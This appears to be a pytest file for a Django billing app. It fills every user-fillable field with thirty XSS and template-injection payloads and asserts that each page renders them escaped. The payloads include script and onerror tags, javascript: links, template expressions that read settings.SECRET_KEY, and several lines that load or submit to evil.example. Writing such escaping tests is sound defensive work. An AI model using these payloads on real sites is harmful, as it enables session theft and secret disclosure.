"""What others wrote is text on our pages, whatever it looks like (trust: E5).

Thirty texts that a browser, a style sheet, a template engine or a formatter could take for something else stand in
every field that a file, a customer or a colleague can fill. Then every page is opened.
"""

from datetime import timedelta

import pytest
from django.template import engines
from tests.shell.desk_people import signed_in
from tests.trust.deeds import Scene, scene_of
from tests.trust.test_f2_between_firms import address, routes

from goodterms.desk.gate import matrix
from goodterms.journeys import (
    keep_bond,
    keep_contact,
    keep_promise,
    plan_the_day,
    put_on_hold,
    record_dispute,
    write_note,
)
from goodterms.store import clock
from goodterms.store.access import scope
from goodterms.store.models import Contact, Customer, Hold, Import, Membership, User

# {n} is a number of its own in each, so that a text that was evaluated is told from one that was shown.
TEXTS = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>",
    "</title><script>{n}</script>", "<link rel=attachment href=file:///etc/passwd {n}>",
    "<style>@import url(//evil.example/{n})</style>", "\"><script src=//evil.example/{n}></script>",
    "' onmouseover='alert({n})", "javascript:alert({n})", "{{{{ {n}*7 }}}}", "{{% debug %}}{n}",
    "{{% include 'desk/page.html' %}}{n}", "{{{{ settings.SECRET_KEY }}}}{n}", "%s%s%n{n}", "%(name)s{n}",
    "{{0.__class__}}{n}", "{{name}}{n}", "${{{n}*7}}", "#{{{n}*7}}", "<!--#exec cmd={n}-->",
    "<iframe srcdoc='{n}'></iframe>", "<base href=//evil.example/{n}>", "<meta http-equiv=refresh content='0;{n}'>",
    "<form action=//evil.example/{n}><input>", "<math><mi xlink:href=javascript:{n}>",
    "<a href=//evil.example/{n}>x</a>", "&lt;script&gt;{n}", "\u202e<b>{n}</b>", "<x:y/{n}>",
    "-->]]><script>{n}</script>",
)  # fmt: skip
ROOM = 1_000_003


def payloads() -> list[str]:
    return [text.format(n=ROOM + place) for place, text in enumerate(TEXTS)]


def faults(page: str) -> list[str]:
    """Where a page holds one of the texts as something else than text."""
    found = [text for text in payloads() if ("<" in text or '"' in text) and text[:24] in page]
    found += [str(n) for place in range(len(TEXTS)) if (n := str((ROOM + place) * 7)) in page]
    return found + ['href="javascript:'] * page.count('href="javascript:')


@pytest.fixture
def spoilt(firm, bring, tmp_path, monkeypatch) -> tuple[Scene, dict[str, object]]:
    """A firm in which everything is called something dangerous; the numbers of it all, by their names in addresses."""
    monkeypatch.setattr("goodterms.desk.pages.imports.wake", lambda company: None)
    scene, texts = scene_of(firm, bring, tmp_path), payloads()
    bill = {"customer_ref": "ACME", "issued_on": "2025-05-05", "due_on": "2025-06-05", "amount": "9.00"}
    rows = [{**bill, "number": text[:60], "description": text, "purchase_order": text[:40]} for text in texts]
    bring(firm, "invoices", [*rows, {**rows[0], "number": f"bad {texts[0]}", "issued_on": texts[0]}])
    coin = {"customer_ref": "ACME", "paid_on": "2026-03-01", "amount": "5"}
    bring(firm, "payments", [{**coin, "reference": text, "description": text} for text in texts])
    for text in texts:
        write_note.write_note(scene.who, scene.customer, text)
        keep_contact.keep_contact(scene.who, scene.customer, keep_contact.Person(name=text, email=""))
    write_note.record_contact(scene.who, scene.customer, channel="call", outcome="reached", text=texts[0])
    record_dispute.record_dispute(scene.who, scene.customer, scene.invoice.pk, texts[0])
    end = clock.today(scene.who.company) + timedelta(days=5)
    put_on_hold.put_on_hold(scene.who, scene.customer, put_on_hold.Pause("other", end, texts[2]))
    keep_bond.keep_bond(scene.who, scene.customer, keep_bond.Held(holder_name=texts[1], evidence=texts[2]))
    promise = keep_promise.Word(500, "EUR", end, text=texts[0])
    keep_promise.keep_promise(scene.who, scene.customer, promise)
    with scope(firm.company.pk):
        Customer.objects.filter(pk=scene.customer.pk).update(name=texts[1], segment=texts[2][:60], terms=texts[6][:60])
        User.objects.filter(pk=scene.colleague.pk).update(name=texts[0])
        mine = {"company": firm.company}
        numbers = {
            "customer_id": scene.customer.pk,
            "import_id": Import.objects.filter(**mine, rejected__gt=0).latest("pk").pk,
            "hold_id": Hold.objects.filter(**mine).latest("pk").pk,
            "contact": Contact.objects.filter(**mine).latest("pk").pk,
            "user_id": scene.colleague.pk,
        }
    plan_the_day.plan_the_day(scene.who)
    return scene, numbers


def pages(scene: Scene, numbers: dict[str, object]):
    """(name, page) of every route that can be read, as its owner sees it."""
    with scope(scene.who.company.pk):
        owner = User.objects.get(pk=Membership.objects.get(company=scene.who.company, role="owner").user_id)
    client = signed_in(owner)
    for route in routes():
        if "get" in matrix()[route.name] and set(route.pattern.converters) <= {"firm", *numbers}:
            answer = client.get(address(route, scene.who.company.slug, numbers))
            assert answer.status_code < 500, route.name
            if answer.headers.get("Content-Type", "").startswith("text/html"):
                yield route.name, answer.content.decode()


def test_e5_every_page_shows_it_as_text(spoilt):
    seen = dict(pages(*spoilt))
    assert len(seen) > 20
    assert not {name: found for name, page in seen.items() if (found := faults(page))}
    shown = sum(page.count("&lt;script&gt;") for page in seen.values())
    assert shown > 30, "the texts must really be on the pages"


def test_e5_a_build_that_escapes_nothing_is_caught(spoilt, monkeypatch):
    engine = engines["django"].engine
    monkeypatch.setattr(engine, "autoescape", False)
    spoilt_pages = {name for name, page in pages(*spoilt) if faults(page)}
    assert {"customer", "customers", "import_seen", "people"} <= spoilt_pages
